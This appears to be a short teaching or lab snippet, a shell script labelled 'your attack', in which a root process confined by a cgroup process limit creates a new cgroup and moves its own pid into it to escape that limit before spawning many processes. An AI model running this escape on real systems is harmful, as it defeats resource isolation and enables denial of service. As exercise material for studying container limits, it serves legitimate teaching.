# Your attack. A shell reads these lines; it is root, and it is in a cgroup that allows a few processes.
# When it comes to the end of them, it starts many. `$$` is its pid.

# ANCHOR: escape
tree=/sys/fs/cgroup
if [ -d $tree/pids ]; then # cgroup v1: the controller that counts processes has a tree of its own
    tree=$tree/pids
fi
mkdir $tree/free
echo $$ > $tree/free/cgroup.procs
# ANCHOR_END: escape
